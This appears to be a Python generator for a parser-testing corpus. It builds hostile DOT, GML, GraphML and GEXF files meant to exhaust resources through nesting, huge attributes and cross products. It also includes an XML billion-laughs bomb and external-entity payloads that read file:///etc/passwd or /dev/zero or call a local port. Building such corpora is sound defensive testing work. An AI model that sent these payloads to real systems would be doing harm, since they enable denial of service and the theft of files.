"""Graphs in DOT, GML, GraphML and GEXF, and what XML brings with it."""

from attack.corpus.kinds import Made, kind

DOT = "digraph g {{ {} }}\n"
HEAD = '<?xml version="1.0"?>'


def _names(prefix: str, number: int) -> str:
    return "; ".join(f"{prefix}{at}" for at in range(number))


@kind("DOT cross products")
def dot_products() -> Made:
    yield "product.dot", DOT.format(f"{{{_names('a', 3_000)}}} -> {{{_names('b', 3_000)}}}")
    yield "square.dot", DOT.format(f"{{{_names('a', 30_000)}}} -> {{{_names('b', 30_000)}}}")
    chain = " -> ".join(f"{{{_names(chr(97 + at % 26), 200)}}}" for at in range(200))
    yield "chain.dot", DOT.format(chain)
    part = f"subgraph s {{{_names('a', 2_000)}}}"
    yield "subgraphs.dot", DOT.format(f"{part} -> subgraph s -> subgraph s -> subgraph s")
    nested = "{" * 5_000 + "a" + "}" * 5_000
    yield "nested.dot", DOT.format(f"{nested} -> {nested}")
    yield "products-small.dot", DOT.format(f"{{{_names('a', 60)}}} -> {{{_names('b', 60)}}};" * 999)


@kind("DOT texts")
def dot_texts() -> Made:
    yield "comments.dot", "/**/" * 60_000 + "x"
    yield "comment-open.dot", "digraph g { a -> b; /*" + "*" * 1_000_000
    yield "slashes.dot", DOT.format('a [label="' + "\\" * 999_999)
    yield "html.dot", DOT.format("a [label=" + "<" * 200_000)
    yield "attributes.dot", DOT.format("".join(f"n{at} [k{at}=1];" for at in range(20_000)))
    yield "brackets.dot", DOT.format("a " + "[x=1]" * 100_000)
    yield "ports.dot", DOT.format("a" + ":b" * 200_000 + " -> c")
    yield "plus.dot", DOT.format('a [label="x"' + ' + "x"' * 100_000 + "]")
    yield "puml.puml", "@startuml\n" + "digraph x {\n" * 10_000


@kind("GraphML keys")
def graphml_keys() -> Made:
    for number in (3_000, 30_000):
        nodes = "".join(
            f'<node id="n{at}"><data key="k{at}">1</data></node>' for at in range(number)
        )
        yield f"keys-{number}.graphml", f"{HEAD}<graphml><graph>{nodes}</graph></graphml>"
    edges = "".join(f'<edge source="a" target="b" k{at}="1"/>' for at in range(20_000))
    yield "attributes.graphml", f"{HEAD}<graphml><graph>{edges}</graph></graphml>"
    nested = '<graph><node id="a">' * 20_000 + "</node></graph>" * 20_000
    yield "nested.graphml", f"{HEAD}<graphml>{nested}</graphml>"
    nodes = "".join(f'<node id="n{at}"><attvalues><attvalue for="k{at}" value="1"/></attvalues>'
                    "</node>" for at in range(20_000))  # fmt: skip
    yield "keys.gexf", f"{HEAD}<gexf><graph><nodes>{nodes}</nodes></graph></gexf>"
    hyper = "<hyperedge>" + "".join(f'<endpoint node="n{at}"/>' for at in range(9_999))
    yield "hyper.graphml", f"{HEAD}<graphml><graph>{hyper}</hyperedge></graph></graphml>"


@kind("GML")
def gml() -> Made:
    yield "deep.gml", "graph " + "[ a " * 100_000
    yield (
        "keys.gml",
        "graph [" + "".join(f"node [ id {at} k{at} 1 ]\n" for at in range(20_000)) + "]",
    )
    yield "open.gml", 'graph [ node [ id 1 label "' + "x" * 2_000_000
    yield "numbers.gml", "graph [ node [ id " + "9" * 500_000 + " ] ]"
    yield "entities.gml", 'graph [ node [ id 1 label "' + "&#x41;" * 200_000 + '" ] ]'
    yield "flat.gml", "graph [" + " directed 1" * 200_000 + " ]"


@kind("XML entities")
def xml_entities() -> Made:
    laughs = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 12))
    graph = '<graphml><graph><node id="{}"/><node id="b"/></graph></graphml>'
    yield (
        "laughs.graphml",
        (f'{HEAD}<!DOCTYPE graphml [<!ENTITY e0 "ha">{laughs}]>' + graph.format("&e11;")),
    )
    yield (
        "quadratic.graphml",
        (
            f'{HEAD}<!DOCTYPE graphml [<!ENTITY a "{"x" * 100_000}">]>'
            + graph.format("&a;" * 10_000)
        ),
    )
    for at, source in enumerate(("file:///etc/passwd", "http://127.0.0.1:9/x", "file:///dev/zero")):
        outside = f'{HEAD}<!DOCTYPE graphml [<!ENTITY x SYSTEM "{source}">]>'
        yield f"outside-{at}.graphml", outside + graph.format("&x;")
        yield f"dtd-{at}.graphml", f'{HEAD}<!DOCTYPE graphml SYSTEM "{source}">' + graph.format("a")
    parameter = '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;'
    yield "parameter.graphml", f"{HEAD}<!DOCTYPE graphml [{parameter}]>" + graph.format("a")


@kind("XML forms")
def xml_forms() -> Made:
    yield "deep.graphml", HEAD + "<graphml>" + "<a>" * 500_000
    yield (
        "attributes.graphml",
        (HEAD + "<graphml " + " ".join(f'a{at}=""' for at in range(100_000)) + "/>"),
    )
    spaces = " ".join(f'xmlns:n{at}="u{at}"' for at in range(20_000))
    yield "namespaces.graphml", f"{HEAD}<graphml {spaces}><graph/></graphml>"
    yield "comment.graphml", HEAD + "<!--" + "-" * 2_000_000
    yield "wide.graphml", f'{HEAD}<graphml><graph><node id="{"x" * 4_000_000}"/></graph></graphml>'
    yield "utf16.graphml", (HEAD + "<graphml><graph/></graphml>").encode("utf-16")
    yield "encoding.graphml", '<?xml version="1.0" encoding="utf-7"?><graphml><graph/></graphml>'
    yield "instructions.graphml", HEAD + "<?a b?>" * 200_000 + "<graphml/>"
